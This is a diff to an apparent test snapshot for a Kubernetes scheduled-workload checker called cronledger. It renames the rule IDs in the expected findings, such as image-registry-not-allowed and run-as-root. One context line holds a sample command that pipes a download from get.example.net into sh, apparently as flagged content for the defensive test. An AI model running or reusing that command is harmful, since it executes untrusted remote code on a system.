@@ -47,7 +47,7 @@ test('a violation', () => {
     + curl -s get.example.net/r | sh
     \`\`\`
 
-    - **critical, blocks** \`image-not-allowed\` at \`apps/billing/nightly-report.yaml:19:22\`<br>The image \`docker.io/acme-tools/report:latest\` of container \`report\` is not from an allowed repository.<br>**Fix:** Use an image that \`images.allow\` in the config matches.
+    - **critical, blocks** \`image-registry-not-allowed\` at \`apps/billing/nightly-report.yaml:19:22\`<br>The image \`docker.io/acme-tools/report:latest\` of container \`report\` is not from an allowed repository.<br>**Fix:** Use an image that \`images.allow\` in the config matches.
     - **high, blocks** \`schedule-too-frequent\` at \`apps/billing/nightly-report.yaml:7:13\`<br>CronJob \`billing\`/\`nightly-report\` runs every minute; the shortest interval allowed is 5 minutes.<br>**Fix:** Run it less often, or ask for an exception in its inventory entry.
 
     ### \`Job kube-system/node-cleanup\` is new
@@ -63,7 +63,7 @@ test('a violation', () => {
     | source | \`helm charts/tools (release tools, values.yaml)\` |
 
     - **critical, blocks** \`job-not-in-inventory\` at \`charts/tools/templates/cleanup.yaml:3:3 (in the template)\`<br>Job \`kube-system\`/\`node-cleanup\` is not in the inventory of approved scheduled workloads.<br>**Fix:** Remove it, or write its entry with \`cronledger inventory add\` and have the entry approved.
-    - **medium** \`limits-missing\` at \`charts/tools/values.yaml:4:1 (in the values)\`<br>Container \`cleanup\` has no memory limit.<br>**Fix:** Set \`resources.limits.memory\`.
+    - **medium** \`run-as-root\` at \`charts/tools/values.yaml:4:1 (in the values)\`<br>Container \`cleanup\` may run as root.<br>**Fix:** Set \`securityContext.runAsNonRoot\`.
 
     Inventory entry: \`cronledger inventory add Job/kube-system/node-cleanup\`
 
@@ -105,7 +105,7 @@ test('a violation', () => {
 
     ### Other findings
 
-    - **low** \`entry-expires-soon\` at \`.cronledger/inventory/shop.yaml:31:5\`<br>The entry of CronJob \`shop\`/\`prices\` expires on 2026-12-20.<br>**Fix:** Renew it with \`cronledger inventory update\`, or remove the workload.
+    - **low** \`inventory-expired\` at \`.cronledger/inventory/shop.yaml:31:5\`<br>The entry of CronJob \`shop\`/\`prices\` expires on 2026-12-20.<br>**Fix:** Renew it with \`cronledger inventory update\`, or remove the workload.
 
     ### Could not be checked
 
